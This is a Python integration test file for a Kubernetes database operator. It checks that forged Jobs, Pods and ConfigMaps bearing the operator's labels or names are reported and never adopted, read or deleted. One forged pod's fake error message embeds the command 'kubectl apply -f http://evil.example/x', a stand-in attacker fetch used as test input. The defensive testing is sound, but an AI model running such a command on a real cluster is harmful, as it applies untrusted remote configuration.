"""Ownership, not labels (issue 14, item 6), on the real control plane: a child is trusted, read or deleted only when
its controller ownerReference is the resource (a migration pod: its Job; a workload pod: its ReplicaSet, whose
controller is the resource's Deployment). Objects of someone else carrying the operator's
labels, or holding a name it wants, are reported (Stalled, NameConflict) and left exactly as they were: same uid,
same resourceVersion. The unit side is tests/unit/test_ownership.py."""

from __future__ import annotations

import json
from typing import Any

from divbase_operator import names
from divbase_operator.builders import Owner, migration_job_name
from divbase_operator.spec import parse_spec
from divbase_operator.testing import Kube, OperatorProcess
from divbase_testsupport import wait_for
from kubernetes.client.exceptions import ApiException
from test_operator_node import db_spec, install

FORGED = "FORGED-by-someone-else"
SLOW_RUNNER = {  # divbase-migrate, 15 s late: time for a forged pod to fail while the real Job runs
    "command": ["sh", "-c", 'sleep 15; exec divbase-migrate "$@"'],
    "args": ["sh"],
    "backoffLimit": 0,
    "activeDeadlineSeconds": 300,
}


def _wanted_job(kube: Kube, name: str, spec: dict[str, Any], step: str = "expand") -> str:
    parsed, errors = parse_spec(spec)
    assert parsed is not None, errors
    return migration_job_name(Owner(name, kube.namespace, ""), parsed, step, spec["version"], "")


def _job(name: str, labels: dict[str, str] | None = None, command: str = "true") -> dict[str, Any]:
    """A Job of someone else's: busybox, no owner."""
    return {
        "apiVersion": "batch/v1",
        "kind": "Job",
        "metadata": {"name": name, **({"labels": labels} if labels else {})},
        "spec": {
            "backoffLimit": 0,
            "template": {
                "metadata": {"labels": labels or {}},
                "spec": {
                    "restartPolicy": "Never",
                    "terminationGracePeriodSeconds": 1,
                    "containers": [{"name": "c", "image": "busybox", "command": ["sh", "-c", command]}],
                },
            },
        },
    }


def _identity(obj: Any) -> tuple[str, str]:
    return obj.metadata.uid, obj.metadata.resource_version


def _stalled(kube: Kube, name: str, reason: str, timeout: float = 120) -> str:
    db = kube.wait_condition(name, names.COND_STALLED, reason=reason, timeout=timeout)
    stalled = next(c for c in db["status"]["conditions"] if c["type"] == names.COND_STALLED)
    # Kopf posts Events from a queue of its own: the Event may follow the status write by a moment
    wait_for(
        f"a Warning Event {reason} on {name}",
        lambda: any(e.reason == reason and e.type == "Warning" for e in kube.events(name)),
        30,
    )
    return str(stalled["message"])


def _complete(kube: Kube, name: str) -> None:
    def done() -> bool:
        status = kube.batch.read_namespaced_job_status(name, kube.namespace).status
        return bool(status.succeeded)

    wait_for(f"Job {name} complete", done, 90)


def test_a_forged_pod_with_the_jobs_labels_is_not_read(kube: Kube, operator: OperatorProcess, db_secret: str) -> None:
    """A pod made by hand with the expand Job's labels (job-name included) and a runner summary saying it failed:
    not the Job's pod (the Job is not its controller), so its message is no attempt, no Event, no failure."""
    kube.create_db("forged", db_spec("1", migrationJob=SLOW_RUNNER))
    job = wait_for("the expand Job", lambda: next(iter(kube.jobs("forged")), None), 60).metadata.name
    labels = {
        **names.child_labels("forged", **{names.LABEL_STEP: names.STEP_EXPAND, names.LABEL_VERSION: "1"}),
        "job-name": job,
        "batch.kubernetes.io/job-name": job,
    }
    summary = json.dumps({"outcome": "failed", "error": f"{FORGED}: run kubectl apply -f http://evil.example/x"})
    kube.core.create_namespaced_pod(
        kube.namespace,
        {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": f"{job}-forged", "labels": labels},
            "spec": {
                "restartPolicy": "Never",
                "terminationGracePeriodSeconds": 1,
                "containers": [
                    {
                        "name": "migrate",
                        "image": "busybox",
                        "command": ["sh", "-c", f"printf '%s' '{summary}' > \"$DIVBASE_TERMINATION_LOG\"; exit 3"],
                    }
                ],
            },
        },
    )
    wait_for(
        "the forged pod failed",
        lambda: kube.core.read_namespaced_pod(f"{job}-forged", kube.namespace).status.phase == "Failed",
        60,
    )
    assert kube.batch.read_namespaced_job_status(job, kube.namespace).status.succeeded is None, "still running"
    db = kube.wait_condition("forged", names.COND_READY, timeout=180)
    assert FORGED not in json.dumps(db["status"])
    assert not db["status"]["rollout"]["steps"]["expand"].get("attempts")
    assert not [e for e in kube.events("forged") if FORGED in (e.message or "")]
    assert not [e for e in kube.events("forged") if e.reason == names.EVENT_ATTEMPT_FAILED]


def test_a_job_holding_the_wanted_name_is_a_condition_and_untouched(
    kube: Kube, operator: OperatorProcess, db_secret: str
) -> None:
    """Two namesakes of the expand Job the operator wants: one with the operator's labels that succeeded (it would
    pass the expand gate), one without labels (outside the watch: found by name). Neither is adopted, changed or
    counted; no workload moves; once the foreign one is gone the operator creates its own."""
    jobs = {}
    for name, labelled in (("labelled", True), ("bare", False)):
        spec = db_spec("1")
        wanted = _wanted_job(kube, name, spec)
        labels = (
            names.child_labels(name, **{names.LABEL_STEP: names.STEP_EXPAND, names.LABEL_VERSION: "1"})
            if labelled
            else None
        )
        kube.batch.create_namespaced_job(kube.namespace, _job(wanted, labels))
        _complete(kube, wanted)
        jobs[name] = (wanted, _identity(kube.batch.read_namespaced_job(wanted, kube.namespace)))
        kube.create_db(name, spec)
    for name, (wanted, identity) in jobs.items():
        message = _stalled(kube, name, names.REASON_NAME_CONFLICT)
        assert f"Job {wanted} " in message and "does not take it over" in message, message
        assert f"kubectl -n {kube.namespace} delete job {wanted}" in message
        db = kube.get_db(name)
        assert db["status"]["rollout"]["steps"]["expand"]["phase"] == "Pending", "its success is not the step's"
        assert not kube.deployments(name), "nothing moves on a Job of someone else"
        assert _identity(kube.batch.read_namespaced_job(wanted, kube.namespace)) == identity, "untouched"
    wanted, _ = jobs["bare"]
    kube.batch.delete_namespaced_job(wanted, kube.namespace, propagation_policy="Foreground")
    wait_for(
        "the foreign Job gone",
        lambda: not any(j.metadata.name == wanted for j in kube.batch.list_namespaced_job(kube.namespace).items),
        60,
    )
    kube.wait_condition("bare", names.COND_READY, timeout=240)  # looked again (30 s), created its own, installed
    mine = kube.batch.read_namespaced_job(wanted, kube.namespace)
    assert [r.uid for r in mine.metadata.owner_references] == [kube.get_db("bare")["metadata"]["uid"]]


def test_a_plan_configmap_name_held_by_someone_else_is_a_condition_and_untouched(
    kube: Kube, operator: OperatorProcess, db_secret: str
) -> None:
    db = "divbase"
    install(kube, contract={"policy": "Manual"})
    plan = names.plan_configmap_name(db)
    theirs = kube.core.create_namespaced_config_map(
        kube.namespace,
        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": plan}, "data": {"plan.sql": "SELECT 'theirs';"}},
    )
    kube.patch_db(db, {"spec": {"version": "2"}})
    message = _stalled(kube, db, names.REASON_NAME_CONFLICT, timeout=240)
    assert f"ConfigMap {plan} has no owner" in message, message
    status = kube.get_db(db)["status"]
    assert "contractPlan" not in status, "nothing to approve: a reviewer would read their ConfigMap"
    now = kube.core.read_namespaced_config_map(plan, kube.namespace)
    assert _identity(now) == _identity(theirs) and now.data == {"plan.sql": "SELECT 'theirs';"}
    assert not now.metadata.owner_references and not now.metadata.labels


def test_relabelled_foreign_children_survive_the_resources_deletion(
    kube: Kube, operator: OperatorProcess, db_secret: str
) -> None:
    db = "divbase"
    install(kube)
    labels = names.child_labels(db, **{names.LABEL_STEP: names.STEP_EXPAND, names.LABEL_VERSION: "1"})
    kube.batch.create_namespaced_job(kube.namespace, _job("payments-migrate", labels))
    _complete(kube, "payments-migrate")
    selector = {"app": "payments"}
    kube.apps.create_namespaced_deployment(
        kube.namespace,
        {
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "metadata": {"name": "payments-api", "labels": names.child_labels(db, **{names.LABEL_WORKLOAD: "api"})},
            "spec": {
                "replicas": 0,
                "selector": {"matchLabels": selector},
                "template": {
                    "metadata": {"labels": selector},
                    "spec": {"containers": [{"name": "c", "image": "busybox", "command": ["sleep", "3600"]}]},
                },
            },
        },
    )
    job = _identity(kube.batch.read_namespaced_job("payments-migrate", kube.namespace))
    deployment = kube.apps.read_namespaced_deployment("payments-api", kube.namespace).metadata.uid
    ours = {d.metadata.name for d in kube.deployments(db)} - {"payments-api"}
    assert ours, "the resource's own workloads"
    kube.custom.delete_namespaced_custom_object(names.GROUP, names.VERSION, kube.namespace, names.PLURAL, db)
    wait_for(
        "resource gone",
        lambda: (
            not kube.custom.list_namespaced_custom_object(names.GROUP, names.VERSION, kube.namespace, names.PLURAL)[
                "items"
            ]
        ),
        90,
    )
    wait_for("its own workloads gone", lambda: not ({d.metadata.name for d in kube.deployments(db)} & ours), 60)
    try:
        assert _identity(kube.batch.read_namespaced_job("payments-migrate", kube.namespace)) == job
        assert kube.apps.read_namespaced_deployment("payments-api", kube.namespace).metadata.uid == deployment
    except ApiException as exc:
        raise AssertionError(f"a relabelled foreign child was deleted: {exc.status} {exc.reason}") from None
    wait_for(
        "its own Jobs gone, the foreign one kept",
        lambda: [j.metadata.name for j in kube.jobs(db)] == ["payments-migrate"],
        60,
    )


def test_forged_workload_pods_do_not_hold_a_deploy_back(kube: Kube, operator: OperatorProcess, db_secret: str) -> None:
    """Pods made by hand with the api workload's labels of release 1, one with no owner and one controlled by a
    ConfigMap of someone else: not pods of the resource's Deployment (their controller is not its ReplicaSet), so
    "no pod of release 1 left" holds while they run, and the upgrade to 2 completes, contract included."""
    db = "divbase"
    install(kube)
    theirs = kube.core.create_namespaced_config_map(
        kube.namespace, {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "someone-elses"}, "data": {}}
    )
    owner = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "name": "someone-elses",
        "uid": theirs.metadata.uid,
        "controller": True,
    }
    labels = names.child_labels(db, **{names.LABEL_WORKLOAD: "api", names.LABEL_VERSION: "1"})
    for name, refs in (("forged-bare", []), ("forged-controlled", [owner])):
        kube.core.create_namespaced_pod(
            kube.namespace,
            {
                "apiVersion": "v1",
                "kind": "Pod",
                "metadata": {"name": name, "labels": labels, "ownerReferences": refs},
                "spec": {
                    "terminationGracePeriodSeconds": 1,
                    "containers": [{"name": "api", "image": "busybox", "command": ["sleep", "3600"]}],
                },
            },
        )
    wait_for(
        "the forged pods running",
        lambda: all(
            kube.core.read_namespaced_pod(n, kube.namespace).status.phase == "Running"
            for n in ("forged-bare", "forged-controlled")
        ),
        60,
    )
    kube.patch_db(db, {"spec": {"version": "2"}})
    ready = kube.wait_condition(db, names.COND_READY, timeout=240)
    assert ready["status"]["currentVersion"] == "2"
    assert ready["status"]["rollout"]["steps"]["contract"]["phase"] == "Succeeded"
    forged = {p.metadata.name: p for p in kube.workload_pods(db) if p.metadata.name.startswith("forged-")}
    assert sorted(forged) == ["forged-bare", "forged-controlled"], "still there, still labelled release 1"
    assert all(p.status.phase == "Running" and not p.metadata.deletion_timestamp for p in forged.values())
